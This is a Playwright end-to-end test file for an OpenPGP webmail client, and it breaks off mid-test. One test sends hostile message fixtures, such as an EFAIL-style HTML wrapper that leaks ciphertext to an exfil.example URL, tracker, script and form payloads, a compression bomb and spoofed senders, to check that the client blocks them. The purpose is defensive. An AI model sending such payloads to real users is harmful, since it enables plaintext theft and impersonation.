import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import * as openpgp from 'openpgp';
import { encryptWithAll, generateToolKeys, interopAvailability, scratch, type Scratch } from '../src/testing/interop';
import {
  type Account,
  cyrus,
  deliverRaw,
  embedded,
  expect,
  generateAndBindKey,
  headersOf,
  importKeyText,
  readMailbox,
  recordTraffic,
  SignInPage,
  smtpSend,
  storedPublicKey,
  test,
  throttle,
  uniqueSubject,
} from './fixtures';

const ALICE_PASS = 'alice reading passphrase';
const BOB_PASS = 'bob reading passphrase';

async function ownFingerprint(page: Page): Promise<string> {
  await page.getByRole('link', { name: 'Compose', exact: true }).click();
  await expect(page.getByLabel('From', { exact: true })).toHaveAttribute('data-key-status', 'valid');
  return (await page.getByLabel('From', { exact: true }).getAttribute('data-key-fingerprint'))!;
}

async function unlockIfAsked(page: Page, passphrase: string) {
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Passphrase', { exact: true }).fill(passphrase);
  await dialog.getByRole('button', { name: 'Unlock', exact: true }).click();
}

/** Signed in as Bob (embedded or Cyrus), with a new key bound to his address: its public key. */
async function signInAsBobWithKey(page: Page, signInPage: SignInPage, account: Account): Promise<string> {
  await signInPage.signIn(account);
  await generateAndBindKey(page, { email: account.username, passphrase: BOB_PASS });
  return storedPublicKey(page, await ownFingerprint(page));
}

/** Open the Inbox and the message with this JMAP id, waiting for it to arrive (no reload). */
async function openMessage(page: Page, id: string) {
  await page.getByRole('link', { name: 'Inbox', exact: true }).click();
  await page.locator(`button[data-message-id="${id}"]`).click({ timeout: 15_000 });
  return page.locator(`[role="article"][data-message-id="${id}"]`);
}

/** Requests to anywhere but this machine. */
function remoteRequests(page: Page): () => string[] {
  const seen: string[] = [];
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (
      !['127.0.0.1', 'localhost', '[::1]'].includes(url.hostname) &&
      !['data:', 'blob:', 'about:'].includes(url.protocol)
    )
      seen.push(r.url());
  });
  return () => seen;
}

test('Alice and Bob hold an encrypted, signed conversation: send, read, reply, read the reply', async ({
  browser,
  baseURL,
}) => {
  test.setTimeout(120_000);
  const aliceContext = await browser.newContext();
  const bobContext = await browser.newContext();
  const alice = await aliceContext.newPage();
  const bob = await bobContext.newPage();
  const bobTraffic = await recordTraffic(bob);
  await new SignInPage(alice).signIn(embedded(baseURL!, 'alice'));
  await new SignInPage(bob).signIn(embedded(baseURL!, 'bob'));
  await generateAndBindKey(alice, { email: 'alice@example.test', passphrase: ALICE_PASS, name: 'Alice' });
  await generateAndBindKey(bob, { email: 'bob@example.test', passphrase: BOB_PASS, name: 'Bob' });
  const aliceFpr = await ownFingerprint(alice);
  const bobFpr = await ownFingerprint(bob);
  await importKeyText(alice, await storedPublicKey(bob, bobFpr), 2);
  await importKeyText(bob, await storedPublicKey(alice, aliceFpr), 2);

  // Bob already has his Inbox open: the message must appear there without a reload.
  await bob.getByRole('link', { name: 'Inbox', exact: true }).click();
  const subject = uniqueSubject('Treffen am Fluss ✓');
  const text = 'Meet me at the river at 9. Secret word: heron-4471.';
  await alice.getByRole('link', { name: 'Compose', exact: true }).click();
  await alice.getByLabel('To', { exact: true }).fill('bob@example.test');
  await alice.getByLabel('To', { exact: true }).press('Enter');
  await expect(alice.locator('[data-recipient="bob@example.test"]')).toHaveAttribute('data-key-status', 'valid');
  await alice.getByLabel('Subject', { exact: true }).fill(subject);
  await alice.getByLabel('Message', { exact: true }).fill(text);
  // A small file, and one larger than a reader's Blob piece (4 MiB): sent streamed, read as it downloads.
  const survey = randomBytes(9 * 1024 * 1024 + 5);
  await alice.getByLabel('Attach files', { exact: true }).setInputFiles([
    { name: 'map.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0, 1, 2, 254, 255]) },
    { name: 'survey.bin', mimeType: 'application/octet-stream', buffer: survey },
  ]);
  await alice.getByRole('button', { name: 'Send', exact: true }).click();
  await unlockIfAsked(alice, ALICE_PASS);
  await expect(alice.getByRole('status').filter({ hasText: 'Sent' })).toBeVisible();

  const bobBox = await readMailbox(embedded(baseURL!, 'bob'));
  const delivered = await bobBox.waitFor('[...]');
  const listed = bob.locator(`button[data-message-id="${delivered.id}"]`);
  await expect(listed).toBeVisible({ timeout: 10_000 });
  await expect(listed).toContainText('Encrypted');
  await listed.click();
  await unlockIfAsked(bob, BOB_PASS);
  const article = bob.locator(`[role="article"][data-message-id="${delivered.id}"]`);
  await expect(article).toHaveAttribute('data-encryption', 'encrypted');
  await expect(article).toHaveAttribute('data-signature', 'valid');
  await expect(article).toHaveAttribute('data-signer-fingerprint', aliceFpr);
  await expect(article.getByRole('heading', { name: subject })).toBeVisible();
  await expect(article.locator('[data-message-body]')).toContainText(text);
  await expect(article.getByRole('button', { name: /map\.bin/ })).toBeVisible();
  const download = bob.waitForEvent('download');
  await article.getByRole('button', { name: /map\.bin/ }).click();
  const file = await (await download).path();
  expect([...readFileSync(file)]).toEqual([0, 1, 2, 254, 255]);
  const surveyDownload = bob.waitForEvent('download');
  await article.getByRole('button', { name: /survey\.bin/ }).click();
  expect(readFileSync(await (await surveyDownload).path()).equals(survey)).toBe(true);
  // The list now shows the protected subject, and the message as read.
  await expect(listed).toContainText(subject);

  // Bob replies: encrypted, threaded, quoted, the subject protected.
  await article.getByRole('button', { name: 'Reply', exact: true }).click();
  await expect(bob.locator('[data-recipient="alice@example.test"]')).toBeVisible();
  await expect(bob.getByLabel('Subject', { exact: true })).toHaveValue(`Re: ${subject}`);
  await expect(bob.getByLabel('Message', { exact: true })).toHaveValue(
    /> Meet me at the river at 9\. Secret word: heron-4471\./,
  );
  await expect(bob.getByRole('switch', { name: 'Encrypt', exact: true })).toBeChecked();
  const replyText = 'Agreed. Bring the heron map. Reply word: kingfisher-8812.';
  const body = bob.getByLabel('Message', { exact: true });
  await body.fill(`${replyText}\n${await body.inputValue()}`);
  await bob.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(bob.getByRole('status').filter({ hasText: 'Sent' })).toBeVisible();

  const aliceBox = await readMailbox(embedded(baseURL!, 'alice'));
  const reply = await aliceBox.waitFor('[...]');
  const replyRaw = await aliceBox.raw(reply);
  expect(headersOf(replyRaw)).toMatch(/^Content-Type: multipart\/encrypted/m);
  const originalId = headersOf(await bobBox.raw(delivered)).match(/^Message-ID: (<[^>]+>)/im)![1]!;
  expect(headersOf(replyRaw)).toContain(`In-Reply-To: ${originalId}`);
  expect(replyRaw).not.toContain('kingfisher');
  // The original is marked answered.
  await expect
    .poll(async () => (await bobBox.list()).find((e) => e.id === delivered.id)?.keywords?.$answered)
    .toBe(true);

  // Alice reads the reply.
  // Her key is still unlocked from sending: no second prompt.
  const replyArticle = await openMessage(alice, reply.id);
  await expect(replyArticle).toHaveAttribute('data-encryption', 'encrypted');
  await expect(replyArticle).toHaveAttribute('data-signature', 'valid');
  await expect(replyArticle).toHaveAttribute('data-signer-fingerprint', bobFpr);
  await expect(replyArticle.getByRole('heading', { name: `Re: ${subject}` })).toBeVisible();
  await expect(replyArticle.locator('[data-message-body]')).toContainText(replyText);

  // Nothing Bob read or wrote left his browser in clear, and nothing went to another host.
  const { all } = bobTraffic();
  for (const secret of [text, 'heron-4471', replyText, 'kingfisher-8812', BOB_PASS, 'PRIVATE KEY BLOCK']) {
    expect(all, secret).not.toContain(secret);
  }
  await aliceContext.close();
  await bobContext.close();
});

const CRLF = (s: string) => s.replace(/\r?\n/g, '\r\n');

/** gpg's signed and encrypted armored message of `payload` (keys already in the scratch keyring). */
function gpgSignEncrypt(s: Scratch, from: string, to: string, payload: string, extra: string[] = []): string {
  writeFileSync(join(s.dir, 'payload.eml'), payload);
  return s.gpg([
    ...['--trust-model', 'always', '--passphrase', '', ...extra],
    ...['--local-user', from, '--recipient', to, '--armor', '--sign', '--encrypt', '--output', '-'],
    join(s.dir, 'payload.eml'),
  ]);
}

/** A PGP/MIME message (RFC 3156 §4) around an armored OpenPGP message, after the given header fields. */
const pgpMime = (head: string, armored: string) =>
  CRLF(
    `${head}MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${armored.trim()}\n--E--\n`,
  );

for (const push of [true, false]) {
  test(`new mail shows up in the open Inbox ${push ? 'by JMAP push, without polling' : 'by Email/changes polling when the server offers no push'}`, async ({
    page,
    signInPage,
    baseURL,
  }) => {
    const bob = embedded(baseURL!, 'bob');
    if (!push) await page.route('**/jmap/eventsource/**', (route) => route.fulfill({ status: 501, body: 'no push' }));
    const calls: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/jmap/api')) calls.push(r.postData() ?? '');
      if (r.url().includes('/jmap/eventsource')) calls.push('eventsource');
    });
    await signInPage.signIn(bob);
    await page.getByRole('link', { name: 'Inbox', exact: true }).click();
    await expect(page.getByRole('main', { name: 'Inbox' }).getByRole('button', { name: 'Refresh' })).toBeVisible();
    await page.waitForTimeout(6000); // longer than one polling interval
    const polls = calls.filter((c) => c.includes('Email/changes')).length;
    expect(calls).toContain('eventsource');
    if (push) expect(polls).toBe(0);
    else expect(polls).toBeGreaterThan(0);
    const subject = uniqueSubject(push ? 'Pushed' : 'Polled');
    const id = await deliverRaw(
      bob,
      CRLF(`From: carol@example.test\nTo: bob@example.test\nSubject: ${subject}\n\nhi\n`),
    );
    await expect(page.locator(`button[data-message-id="${id}"]`)).toContainText(subject, { timeout: 10_000 });
  });
}

test('hostile messages show only what is true, and nothing leaves for a remote host while they are open', async ({
  page,
  signInPage,
  baseURL,
}) => {
  test.setTimeout(180_000);
  const bob = embedded(baseURL!, 'bob');
  const bobKey = await openpgp.readKey({ armoredKey: await signInAsBobWithKey(page, signInPage, bob) });
  const { privateKey: eve, publicKey: evePublic } = (await openpgp.generateKey({
    userIDs: [{ name: 'Eve', email: 'eve@evil.example' }],
    format: 'object',
  })) as unknown as { privateKey: openpgp.PrivateKey; publicKey: openpgp.PublicKey };
  await importKeyText(page, evePublic.armor(), 2);

  const encrypt = async (payload: string, sign: boolean, config: Partial<openpgp.Config> = {}) =>
    (await openpgp.encrypt({
      message: await openpgp.createMessage({ text: CRLF(payload) }),
      encryptionKeys: bobKey,
      ...(sign ? { signingKeys: eve } : {}),
      config,
    })) as string;
  const evePlain = 'From: Eve <eve@evil.example>\nTo: bob@example.test\nSubject: hostile\n';

  const tampered = await (async () => {
    const binary = (await openpgp.encrypt({
      message: await openpgp.createMessage({ text: CRLF('Content-Type: text/plain\n\nTAMPERED-SECRET\n') }),
      encryptionKeys: bobKey,
      format: 'binary',
      config: { preferredCompressionAlgorithm: openpgp.enums.compression.uncompressed },
    })) as Uint8Array;
    binary[binary.length - 25]! ^= 0x41;
    return openpgp.armor(openpgp.enums.armor.message, binary);
  })();
  const efailCipher = await encrypt('Content-Type: text/plain\n\nEFAIL-SECRET\n', false);
  const hostileHtml = `Content-Type: text/html; charset=utf-8\n\n<p>Remote things:</p><img src="https://tracker.example/pixel.png"><div style="background:url(https://css.example/bg.png)">styled</div><style>@import url(https://css.example/i.css); p{background:url(https://css.example/p.png)}</style><form action="https://form.example/post"><input name="q"><button>Go</button></form><script>fetch('https://script.example/x')</script><a href="javascript:alert(1)">js link</a><p>HTML-BODY-MARK</p>\n`;
  const bombArmored = (await openpgp.encrypt({
    message: await openpgp.createMessage({ binary: new Uint8Array(120 * 1024 * 1024) }),
    encryptionKeys: bobKey,
    config: { preferredCompressionAlgorithm: openpgp.enums.compression.zlib },
  })) as string;

  const cases: { name: string; raw: string; encryption: string; signature: string; text?: string; absent?: string }[] =
    [
      {
        name: 'altered MDC',
        raw: pgpMime(evePlain, tampered),
        encryption: 'failed',
        signature: 'unsigned',
        absent: 'TAMPERED-SECRET',
      },
      {
        name: 'EFAIL ciphertext between HTML parts',
        raw: CRLF(
          `${evePlain}Content-Type: multipart/mixed; boundary="X"\n\n--X\nContent-Type: text/html\n\n<img src="https://exfil.example/?\n--X\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${efailCipher.trim()}\n--E--\n--X\nContent-Type: text/html\n\n">\n--X--\n`,
        ),
        encryption: 'partial',
        signature: 'unsigned',
        absent: 'EFAIL-SECRET',
      },
      {
        name: 'decrypted HTML with remote content, forms, scripts',
        raw: pgpMime(evePlain, await encrypt(hostileHtml, true)),
        encryption: 'encrypted',
        signature: 'valid',
      },
      {
        name: 'display name that looks like an address',
        raw: pgpMime(
          'From: "boss@work.example" <eve@evil.example>\nTo: bob@example.test\nSubject: hostile\n',
          await encrypt('Content-Type: text/plain\n\nPay the invoice.\n', true),
        ),
        encryption: 'encrypted',
        signature: 'valid',
        text: 'Pay the invoice.',
      },
      {
        name: 'signed by eve, From alice',
        raw: pgpMime(
          'From: alice@example.test\nTo: bob@example.test\nSubject: hostile\n',
          await encrypt('Content-Type: text/plain\n\nFrom alice, really.\n', true),
        ),
        encryption: 'encrypted',
        signature: 'mismatch',
      },
      {
        name: 'a fake verified banner in the body',
        raw: CRLF(`${evePlain}Content-Type: text/plain\n\n✔ Verified signature from boss@work.example\n`),
        encryption: 'none',
        signature: 'unsigned',
      },
      {
        name: 'compression bomb',
        raw: pgpMime(evePlain, bombArmored),
        encryption: 'failed',
        signature: 'unsigned',
      },
      {
        name: 'Autocrypt header for another address',
        raw: CRLF(
          `${evePlain}Autocrypt: addr=alice@example.test; keydata=${Buffer.from(evePublic.write()).toString('base64')}\nContent-Type: text/plain\n\nhello\n`,
        ),
        encryption: 'none',
        signature: 'unsigned',
      },
      {
        name: 'inline images by cid: only from the same payload',
        raw: pgpMime(
          evePlain,
          await encrypt(
            `Content-Type: multipart/related; boundary="R"\n\n--R\nContent-Type: text/html; charset=utf-8\n\n<p>CID-MARK</p><img id="inside" src="cid:logo@payload"><img id="elsewhere" src="cid:missing@outside">\n--R\nContent-Type: image/png\nContent-ID: <logo@payload>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\n--R--\n`,
            true,
          ),
        ),
        encryption: 'encrypted',
        signature: 'valid',
      },
      {
        name: 'two From fields',
        raw: pgpMime(
          'From: alice@example.test\nFrom: eve@evil.example\nTo: bob@example.test\nSubject: hostile\n',
          await encrypt('Content-Type: text/plain\n\nWho sent this?\n', true),
        ),
        encryption: 'encrypted',
        signature: 'mismatch',
      },
      {
        name: 'signed part with unsigned text before it',
        raw: await (async () => {
          const signedPart = CRLF('Content-Type: text/plain; charset=utf-8\n\nSigned words.\n');
          const signature = (await openpgp.sign({
            message: await openpgp.createMessage({ text: signedPart }),
            signingKeys: eve,
            detached: true,
          })) as string;
          return CRLF(
            `${evePlain}Content-Type: multipart/mixed; boundary="M"\n\n--M\nContent-Type: text/plain\n\nUnsigned words first.\n--M\nContent-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="S"\n\n--S\n${signedPart}\n--S\nContent-Type: application/pgp-signature\n\n${signature.trim()}\n--S--\n--M--\n`,
          );
        })(),
        encryption: 'none',
        signature: 'partial',
        text: 'Signed words.',
      },
    ];
  // OpenPGP.js will not sign with SHA-1 any more: gpg does, with eve's key.
  if (interopAvailability().run) {
    const s = scratch();
    try {
      s.gpg(['--import'], eve.armor());
      s.gpg(['--import'], bobKey.armor());
      const armored = gpgSignEncrypt(
        s,
        'eve@evil.example',
        'bob@example.test',
        CRLF('Content-Type: text/plain\n\nOld hash.\n'),
        ['--digest-algo', 'SHA1'],
      );
      cases.push({
        name: 'SHA-1 message signature',
        raw: pgpMime(evePlain, armored),
        encryption: 'encrypted',
        signature: 'bad',
      });
    } finally {
      s.cleanup();
    }
  }
  // No key server in this test: the only look-ups the app makes by itself (key refresh) stay off.
  await page.getByRole('link', { name: 'Settings', exact: true }).click();
  await page.getByLabel('Key server', { exact: true }).fill('');
  await page.getByLabel('Key server', { exact: true }).blur();
  const ids: string[] = [];
  for (const c of cases) ids.push(await deliverRaw(bob, c.raw));
  const remote = remoteRequests(page);
  let unlocked = false;
  for (const [i, c] of cases.entries()) {
    const article = await openMessage(page, ids[i]!);
    if (!unlocked && c.encryption !== 'none' && c.encryption !== 'partial') {
      await unlockIfAsked(page, BOB_PASS);
      unlocked = true;
    }
    await expect(article, c.name).toHaveAttribute('data-encryption', c.encryption, { timeout: 20_000 });
    await expect(article, c.name).toHaveAttribute('data-signature', c.signature);
    if (c.text) await expect(article.locator('[data-message-body]'), c.name).toContainText(c.text);
    if (c.absent) await expect(page.locator('body'), c.name).not.toContainText(c.absent);
    if (c.name === 'display name that looks like an address') {
      await expect(article.locator('.sender-address')).toHaveText('<eve@evil.example>');
      await expect(article).toHaveAttribute('data-signer-fingerprint', evePublic.getFingerprint().toUpperCase());
    }
    if (c.name === 'signed by eve, From alice') await expect(article).toContainText('eve@evil.example');
    if (c.name === 'inline images by cid: only from the same payload') {
      const frame = page.frameLocator('iframe.message-frame').first();
      await expect(frame.locator('body')).toContainText('CID-MARK');
      await expect(frame.locator('#inside')).toHaveAttribute('src', /^data:image\/png;base64,/);
      await expect
        .poll(() => frame.locator('#inside').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
        .toBe(1);
      await expect(frame.locator('#elsewhere')).toHaveAttribute('title', 'Remote image not loaded');
      // Shown inline, so not offered again as a file.
      await expect(article.getByRole('list', { name: 'Attachments' })).toHaveCount(0);
    }
    if (c.name === 'decrypted HTML with remote content, forms, scripts') {
      const frame = page.frameLocator('iframe.message-frame').first();
      await expect(frame.locator('body')).toContainText('HTML-BODY-MARK');
      await expect(frame.locator('form, input, script')).toHaveCount(0);
      await expect(frame.locator('a[href^="javascript"]')).toHaveCount(0);
    }
  }
  expect(remote()).toEqual([]);
});

test.describe('a signer the keystore does not know', () => {
  test.skip(() => process.env.E2E_WKD !== 'ready' || !interopAvailability().run, 'WKD peer or gpg not available');

  test('a cancelled passphrase leaves the message locked; Try again opens it; the sender’s key is found on WKD on request', async ({
    page,
    signInPage,
    baseURL,
  }) => {
    test.setTimeout(90_000);
    const peers = process.env.PEERS_STATE_DIR ?? '/tmp/pgp-composer-peers';
    const carolFpr = readFileSync(`${peers}/wkd/keys/carol.fpr`, 'utf8').trim();
    const bob = embedded(baseURL!, 'bob');
    const bobPublic = await signInAsBobWithKey(page, signInPage, bob);
    const s = scratch();
    try {
      s.gpg(['--import'], readFileSync(`${peers}/wkd/keys/carol.sec.asc`, 'utf8'));
      s.gpg(['--import'], bobPublic);
      const armored = gpgSignEncrypt(
        s,
        'carol@wkd.test',
        'bob@example.test',
        CRLF('Content-Type: text/plain; charset=utf-8\n\nFrom Carol on WKD, kestrel-5150.\n'),
      );
      const id = await deliverRaw(
        bob,
        pgpMime(
          `From: Carol <carol@wkd.test>\nTo: bob@example.test\nSubject: ...\nDate: ${new Date().toUTCString()}\n`,
          armored,
        ),
      );
      const article = await openMessage(page, id);
      await page.getByRole('dialog').getByRole('button', { name: 'Cancel', exact: true }).click();
      await expect(article).toHaveAttribute('data-encryption', 'locked');
      await expect(article.locator('[data-message-body]')).not.toContainText('kestrel-5150');
      await article.getByRole('button', { name: 'Try again', exact: true }).click();
      await unlockIfAsked(page, BOB_PASS);
      await expect(article).toHaveAttribute('data-encryption', 'encrypted');
      await expect(article).toHaveAttribute('data-signature', 'unknown-key');
      await expect(article.locator('[data-message-body]')).toContainText('kestrel-5150');
      await article.getByRole('button', { name: 'Look up the sender’s key', exact: true }).click();
      await expect(article).toHaveAttribute('data-signature', 'valid');
      await expect(article).toHaveAttribute('data-signer-fingerprint', carolFpr);
    } finally {
      s.cleanup();
    }
  });
});

test.describe('answering a gpg user', () => {
  test.skip(() => !interopAvailability().run, 'OpenPGP tools not available');

  test('the reply draft is stored encrypted, gpg decrypts the reply, and Forward re-encrypts the attachment for the new recipient', async ({
    page,
    signInPage,
    baseURL,
  }) => {
    test.setTimeout(150_000);
    const bob = embedded(baseURL!, 'bob');
    const bobPublic = await signInAsBobWithKey(page, signInPage, bob);
    const s = scratch();
    try {
      for (const uid of ['Carol <carol@example.test>', 'Dave <dave@example.test>'])
        s.gpg(['--passphrase', '', '--quick-gen-key', uid, 'future-default', 'default', 'never']);
      s.gpg(['--import'], bobPublic);
      await importKeyText(page, s.gpg(['--armor', '--export', 'carol@example.test']), 2);
      await importKeyText(page, s.gpg(['--armor', '--export', 'dave@example.test']), 3);
      /** gpg's reading of a PGP/MIME message from the app: the decrypted MIME payload. */
      const gpgDecrypt = (raw: string) => {
        const armored = raw.slice(
          raw.indexOf('-----BEGIN PGP MESSAGE-----'),
          raw.indexOf('-----END PGP MESSAGE-----') + 25,
        );
        writeFileSync(join(s.dir, 'in.asc'), armored);
        return s.gpg(['--passphrase', '', '--decrypt', join(s.dir, 'in.asc')]);
      };

      // Carol writes to Bob with gpg: encrypted, signed, one attachment.
      const subject = uniqueSubject('Osprey plan');
      const messageId = `<osprey-${Date.now()}@example.test>`;
      const payload = CRLF(
        `Content-Type: multipart/mixed; boundary="P"; protected-headers="v1"\nSubject: ${subject}\nFrom: Carol <carol@example.test>\nTo: bob@example.test\nMessage-ID: ${messageId}\n\n--P\nContent-Type: text/plain; charset=utf-8\n\nCarol's plan: osprey-3301.\n--P\nContent-Type: application/octet-stream; name="plan.bin"\nContent-Disposition: attachment; filename="plan.bin"\nContent-Transfer-Encoding: base64\n\nAAEC/v8=\n--P--\n`,
      );
      const armored = gpgSignEncrypt(s, 'carol@example.test', 'bob@example.test', payload);
      const id = await deliverRaw(
        bob,
        pgpMime(
          `From: Carol <carol@example.test>\nTo: bob@example.test\nSubject: ...\nMessage-ID: ${messageId}\nDate: ${new Date().toUTCString()}\n`,
          armored,
        ),
      );
      const article = await openMessage(page, id);
      await unlockIfAsked(page, BOB_PASS);
      await expect(article).toHaveAttribute('data-signature', 'valid');

      // Reply: the draft saved on the way is encrypted like any draft.
      await article.getByRole('button', { name: 'Reply', exact: true }).click();
      const reply = 'Agreed, osprey it is. Reply word: tern-7720.';
      const body = page.getByLabel('Message', { exact: true });
      await body.fill(`${reply}\n${await body.inputValue()}`);
      await expect(page.locator('[data-draft-state]')).toHaveAttribute('data-draft-state', 'saved');
      const bobBox = await readMailbox(bob);
      await expect.poll(async () => (await bobBox.list('drafts')).length).toBeGreaterThan(0);
      for (const draft of await bobBox.list('drafts')) {
        const stored = await bobBox.raw(draft);
        expect(headersOf(stored)).toMatch(/Content-Type: multipart\/encrypted/);
        for (const secret of ['tern-7720', 'osprey-3301', 'Osprey plan']) expect(stored, secret).not.toContain(secret);
      }
      await page.getByRole('button', { name: 'Send', exact: true }).click();
      await expect(page.getByRole('status').filter({ hasText: 'Sent' })).toBeVisible();
      const carolBox = await readMailbox(embedded(baseURL!, 'carol'));
      let replyRaw = '';
      await expect
        .poll(async () => {
          for (const e of await carolBox.list()) {
            const raw = await carolBox.raw(e);
            if (headersOf(raw).includes(`In-Reply-To: ${messageId}`)) return (replyRaw = raw);
          }
          return '';
        })
        .not.toBe('');
      expect(replyRaw).not.toContain('tern-7720');
      const replyPlain = gpgDecrypt(replyRaw);
      expect(replyPlain).toContain(reply);
      expect(replyPlain).toContain("> Carol's plan: osprey-3301.");
      expect(replyPlain).toContain(`Re: ${subject}`);

      // Forward to Dave: the attachment goes along, encrypted for Dave; the original is marked.
      const daveBox = await readMailbox(embedded(baseURL!, 'dave'));
      const before = new Set((await daveBox.list()).map((e) => e.id));
      const again = await openMessage(page, id);
      await again.getByRole('button', { name: 'Forward', exact: true }).click();
      await expect(page.getByLabel('Subject', { exact: true })).toHaveValue(`Fwd: ${subject}`);
      await expect(page.getByRole('list', { name: 'Attachments' })).toContainText('plan.bin');
      await page.getByLabel('To', { exact: true }).fill('dave@example.test');
      await page.getByLabel('To', { exact: true }).press('Enter');
      await expect(page.locator('[data-recipient="dave@example.test"]')).toHaveAttribute('data-key-status', 'valid');
      await expect(page.getByRole('switch', { name: 'Encrypt', exact: true })).toBeChecked();
      await page.getByRole('button', { name: 'Send', exact: true }).click();
      await expect(page.getByRole('status').filter({ hasText: 'Sent' })).toBeVisible();
      let forwardRaw = '';
      await expect
        .poll(async () => {
          const arrived = (await daveBox.list()).find((e) => !before.has(e.id));
          return (forwardRaw = arrived ? await daveBox.raw(arrived) : '');
        })
        .not.toBe('');
      expect(forwardRaw).not.toContain('osprey-3301');
      expect(forwardRaw).not.toContain('AAEC/v8');
      const forwarded = gpgDecrypt(forwardRaw);
      expect(forwarded).toContain(`Fwd: ${subject}`);
      expect(forwarded).toContain("Carol's plan: osprey-3301.");
      expect(forwarded).toMatch(/filename="?plan\.bin"?[\s\S]*AAEC\/v8=/);
      await expect.poll(async () => (await bobBox.list()).find((e) => e.id === id)?.keywords?.$forwarded).toBe(true);
    } finally {
      s.cleanup();
    }
  });
});

test.describe('mail from gpg through Postfix into a real Cyrus', () => {
  test.skip(
    () => process.env.E2E_CYRUS !== 'ready' || !interopAvailability().run,
    'Cyrus peer or OpenPGP tools not available',
  );

  test('a Thunderbird-style message encrypted and signed by gpg arrives, decrypts and verifies', async ({
    page,
    signInPage,
  }) => {
    test.setTimeout(120_000);
    const bob = cyrus('bob');
    const bobPublic = await signInAsBobWithKey(page, signInPage, bob);
    const s = scratch();
    try {
      s.gpg(['--passphrase', '', '--quick-gen-key', 'Gina <gina@example.org>', 'future-default', 'default', 'never']);
      writeFileSync(join(s.dir, 'bob.asc'), bobPublic);
      s.gpg(['--import', join(s.dir, 'bob.asc')]);
      const subject = uniqueSubject('Protected by gpg ✓');
      const payload = CRLF(
        `Content-Type: multipart/mixed; boundary="P"; protected-headers="v1"\nSubject: ${subject}\nFrom: Gina <gina@example.org>\nTo: bob@example.org\n\n--P\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nGrüße von gpg, gina-5521.\n--P\nContent-Type: application/octet-stream; name="g.bin"\nContent-Disposition: attachment; filename="g.bin"\nContent-Transfer-Encoding: base64\n\nAAEC/v8=\n--P--\n`,
      );
      const armored = gpgSignEncrypt(s, 'gina@example.org', 'bob@example.org', payload);
      const messageId = `<gpg-${Date.now()}@example.org>`;
      await smtpSend(
        Number(process.env.CYRUS_SMTP_PORT ?? 28025),
        'gina@example.org',
        'bob@example.org',
        pgpMime(
          `From: Gina <gina@example.org>\nTo: bob@example.org\nSubject: ...\nMessage-ID: ${messageId}\nDate: ${new Date().toUTCString()}\n`,
          armored,
        ),
      );
      await importKeyText(page, s.gpg(['--armor', '--export', 'gina@example.org']), 2);
      const box = await readMailbox(bob);
      const arrived = await box.waitFor('...');
      const article = await openMessage(page, arrived.id);
      await unlockIfAsked(page, BOB_PASS);
      await expect(article).toHaveAttribute('data-encryption', 'encrypted');
      await expect(article).toHaveAttribute('data-signature', 'valid');
      await expect(article.getByRole('heading', { name: subject })).toBeVisible();
      await expect(article.locator('[data-message-body]')).toContainText('Grüße von gpg, gina-5521.');
      const download = page.waitForEvent('download');
      await article.getByRole('button', { name: /g\.bin/ }).click();
      expect([...readFileSync(await (await download).path())]).toEqual([0, 1, 2, 254, 255]);
    } finally {
      s.cleanup();
    }
  });

  test('messages from gpg, sq, sqop, gosop and rnp arrive through Postfix into Cyrus, and through the embedded backend, and read as sent', async ({
    page,
    signInPage,
    baseURL,
  }) => {
    test.setTimeout(240_000);
    const bobPublic = await signInAsBobWithKey(page, signInPage, cyrus('bob'));
    const s = scratch();
    try {
      const tools = generateToolKeys(s);
      writeFileSync(join(s.dir, 'bob.pub.asc'), bobPublic);
      for (const [i, tool] of tools.entries()) await importKeyText(page, tool.publicKey, i + 2);
      const raws = tools.map((tool) => {
        const subject = uniqueSubject(`From ${tool.tool}`);
        const file = join(s.dir, `${tool.tool}.payload`);
        writeFileSync(
          file,
          CRLF(
            `Content-Type: multipart/mixed; boundary="P"; protected-headers="v1"\nSubject: ${subject}\nFrom: ${tool.email}\nTo: bob@example.org\n\n--P\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\nGr=C3=BC=C3=9Fe from ${tool.tool}\n--P\nContent-Type: application/octet-stream; name="x.bin"\nContent-Disposition: attachment; filename="x.bin"\nContent-Transfer-Encoding: base64\n\nAAEC+v8=\n--P--\n`,
          ),
        );
        const armored = encryptWithAll(
          s,
          [tool],
          { publicFile: join(s.dir, 'bob.pub.asc'), email: 'bob@example.org' },
          file,
        )[tool.tool]!;
        return {
          tool,
          subject,
          raw: pgpMime(
            `From: ${tool.email}\nTo: bob@example.org\nSubject: ...\nMessage-ID: <${tool.tool}-${Date.now()}@example.org>\nDate: ${new Date().toUTCString()}\n`,
            armored,
          ),
        };
      });
      const readAll = async (ids: string[]) => {
        let unlocked = false;
        const seen: Record<string, string> = {};
        for (const [i, { tool, subject }] of raws.entries()) {
          const article = await openMessage(page, ids[i]!);
          if (!unlocked) {
            await unlockIfAsked(page, BOB_PASS);
            unlocked = true;
          }
          await expect(article).not.toHaveAttribute('data-encryption', 'pending', { timeout: 20_000 });
          let bytes = 'no attachment';
          if ((await article.getAttribute('data-encryption')) === 'encrypted') {
            const download = page.waitForEvent('download');
            await article.getByRole('button', { name: /x\.bin/ }).click();
            bytes = [...readFileSync(await (await download).path())].join(',');
          } else bytes = (await article.locator('[data-status-kind="encryption"]').textContent()) ?? '';
          seen[tool.tool] = [
            await article.getAttribute('data-encryption'),
            await article.getAttribute('data-signature'),
            (await article.getAttribute('data-signer-fingerprint')) === tool.fingerprint,
